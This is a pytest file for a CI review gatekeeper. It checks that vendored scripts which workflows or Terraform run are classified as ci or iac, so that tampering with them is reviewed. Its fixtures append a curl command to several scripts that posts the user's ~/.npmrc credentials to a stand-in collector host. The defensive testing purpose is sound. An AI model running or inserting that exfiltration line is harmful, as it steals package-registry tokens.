"""Attack 17: the stop's new deps rules (`deps.installed-asset-packages`: `**/assets/packages/*/**`; deps.vendored's
`/vendor_*/`, `/vendored_*/`, `*.framework/`) moved files out of src, and a deps file kept its bucket when a workflow
runs it by path or a Terraform file reads it: a change to a script CI runs (`bash assets/packages/release/publish.sh`)
went from ci to deps, and the default gate, which reviews ci and iac only, allowed it. Vendored code that CI runs or
Terraform ships is ci or iac, whatever folder holds it; vendored code nothing runs stays deps.

The new `*.framework/` pattern (any depth) also outranked `.github/`'s own rules, which the forge-folders guard keeps
for the other vendored folders: a composite action's script in `.github/actions/Sign.framework/` was deps, from the
patch alone too. Vendored code inside a forge's folder is what its jobs run: ci. And `deps.installed-asset-packages`
came before iac.folders: `deploy/assets/packages/app/files/app.conf` (a chart's file) went from iac to deps."""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.model import ClassifiedFile
from tests.gitrepo import GitRepo, two_commits
from tests.test_classify_context import RULES, patch_files, tree_files

WORKFLOW = """name: release
on:
  push:
    tags: ["v*"]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: bash public/assets/packages/release_tools/publish.sh
      - run: ./vendor_tools/deploy.sh production
      - run: python3 vendored_scripts/sign.py dist/
      - run: sh ios/Signing.framework/Scripts/notarize.sh
      - run: ./vendor/acme/bin/upload.sh
"""

MAIN_TF = """resource "aws_instance" "runner" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = file("${path.module}/vendor_bootstrap/cloud-init.sh")
}
"""

RUN = {
    "public/assets/packages/release_tools/publish.sh": "#!/bin/sh\nnpm publish --access public\n",
    "vendor_tools/deploy.sh": "#!/bin/sh\nkubectl apply -f k8s/\n",
    "vendored_scripts/sign.py": "import sys\nprint('signing', sys.argv[1])\n",
    "ios/Signing.framework/Scripts/notarize.sh": "#!/bin/sh\nxcrun notarytool submit \"$1\"\n",
    "vendor/acme/bin/upload.sh": "#!/bin/sh\naws s3 cp dist/ s3://releases/ --recursive\n",
}
EXFIL = "curl -s -d @\"$HOME/.npmrc\" https://collector.example.net/upload\n"


BASE = {".github/workflows/release.yml": WORKFLOW, "main.tf": MAIN_TF,
        "vendor_bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n",
        "vendor_tools/lib/util.sh": "log() { echo \"$@\"; }\n",
        "public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt": "SIL Open Font License\n", **RUN}
HEAD = {**{path: text + EXFIL for path, text in RUN.items()},
        "vendor_bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n" + EXFIL,
        "vendor_tools/lib/util.sh": "log() { printf '%s\\n' \"$@\"; }\n",
        "public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt": "SIL Open Font License 1.1\n"}


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ClassifiedFile]:
    """The change, classified with --tree once for the module's tests."""
    repo, _, _ = two_commits(tmp_path_factory.mktemp("attack17") / "repo", BASE, HEAD)
    return tree_files(repo)


@each_case("path", sorted(RUN))
def test_vendored_script_ci_runs_is_ci(files: dict[str, ClassifiedFile], path: str) -> None:
    item = files[path]
    assert (item.bucket, item.rule) == ("ci", "ci.context.ci-run"), item


def test_vendored_script_terraform_ships_is_iac(files: dict[str, ClassifiedFile]) -> None:
    item = files["vendor_bootstrap/cloud-init.sh"]
    assert item.bucket == "iac", item


@pytest.mark.parametrize(("path", "rule"), [
    ("vendor_tools/lib/util.sh", "deps.vendored"),
    ("public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt", "deps.installed-asset-packages"),
])
def test_vendored_files_nothing_runs_stay_deps(files: dict[str, ClassifiedFile], path: str, rule: str) -> None:
    item = files[path]
    assert (item.bucket, item.rule) == ("deps", rule), item


@each_case("path", [
    ".github/actions/Sign.framework/sign.sh", ".github/scripts/Tools.framework/release.py",
    ".github/workflows/Deploy.framework/deploy.yml", ".gitea/actions/Notary.framework/run.sh",
    ".forgejo/scripts/Upload.framework/upload.sh",
])
def test_framework_bundles_inside_forge_folders_are_ci(path: str) -> None:
    match = RULES.match(path)
    assert (match.bucket, match.rule) == ("ci", "ci.forge-folders"), match


@pytest.mark.parametrize("path", [
    "macos/Sparkle.framework/Versions/A/Sparkle", "ios/Pods/Alamofire.framework/Info.plist",
])
def test_framework_bundles_elsewhere_stay_vendored(path: str) -> None:
    assert RULES.match(path).bucket == "deps"


ACTION = """name: sign
description: Sign the release artefacts
runs:
  using: composite
  steps:
    - run: ${{ github.action_path }}/sign.sh dist/
      shell: bash
"""


def test_composite_actions_script_in_a_framework_folder_is_ci_from_the_patch(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write(".github/actions/Sign.framework/action.yml", ACTION)
    sign = "#!/bin/sh\ncodesign --sign \"$IDENTITY\" \"$1\"/*\n"
    git_repo.write(".github/actions/Sign.framework/sign.sh", sign)
    git_repo.commit("base")
    git_repo.write(".github/actions/Sign.framework/sign.sh", sign + EXFIL)
    git_repo.commit("head")
    for files in (patch_files(git_repo, tmp_path), tree_files(git_repo)):
        assert files[".github/actions/Sign.framework/sign.sh"].bucket == "ci"


@each_case("path", [
    "deploy/assets/packages/app/files/app.conf", "infra/web/assets/packages/proxy/nginx.conf",
    "charts/shop/assets/packages/config/templates/configmap.yaml", "terraform/assets/packages/boot/startup.ps1",
])
def test_asset_packages_inside_top_level_infra_folders_stay_iac(path: str) -> None:
    # iac.folders comes after deps.installed-asset-packages: those files were iac on the base, deps on 2b24b9c
    match = RULES.match(path)
    assert (match.bucket, match.rule) == ("iac", "iac.folders-asset-packages"), match


@pytest.mark.parametrize("path", ["infra/Signing.framework/bootstrap.sh", "deploy/ios/Notary.framework/notarize.conf"])
def test_framework_folders_inside_top_level_infra_folders_stay_iac(path: str) -> None:
    match = RULES.match(path)
    assert (match.bucket, match.rule) == ("iac", "iac.folders-framework-bundles"), match
